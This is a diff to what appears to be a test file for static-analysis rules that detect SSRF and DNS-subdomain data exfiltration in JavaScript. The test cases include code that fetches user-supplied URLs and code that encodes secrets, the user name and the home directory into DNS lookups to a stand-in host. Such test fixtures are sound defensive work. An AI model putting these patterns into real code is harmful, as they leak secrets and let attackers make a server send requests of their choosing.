@@ -7,6 +7,8 @@ import ax from 'axios';
 import * as http from 'node:http';
 import { request as undiciRequest } from 'undici';
 import got from 'got';
+import { get as fetchUrl } from 'node:https';
+const { resolve4: r4 } = require('dns');
 const os = require('os');
 
 function handlers(app) {
@@ -25,6 +27,8 @@ function handlers(app) {
     await undiciRequest(req.body.url);
     // ruleid: js.ssrf.request-url-from-request
     await got(req.query.src);
+    // ruleid: js.ssrf.request-url-from-request
+    fetchUrl(req.query.feed, (r2) => r2.resume());
     // ok: js.ssrf.request-url-from-request
     await fetch('https://api.example.com/v1/items');
     // ok: js.ssrf.request-url-from-request
@@ -76,6 +80,8 @@ async function beacon(secret, name) {
   await require('dns').promises.resolve4(`${process.env.USER}.${Buffer.from(os.homedir()).toString('base64url')}.t.example`);
   // ruleid: js.exfil.dns-subdomain
   new dns.Resolver().resolveTxt(btoa(secret) + '.t.example', () => {});
+  // ruleid: js.exfil.dns-subdomain
+  r4(`${Buffer.from(secret).toString('base64')}.t.example`, () => {});
   // ok: js.exfil.dns-subdomain
   dns.lookup('registry.npmjs.org', () => {});
   // ok: js.exfil.dns-subdomain
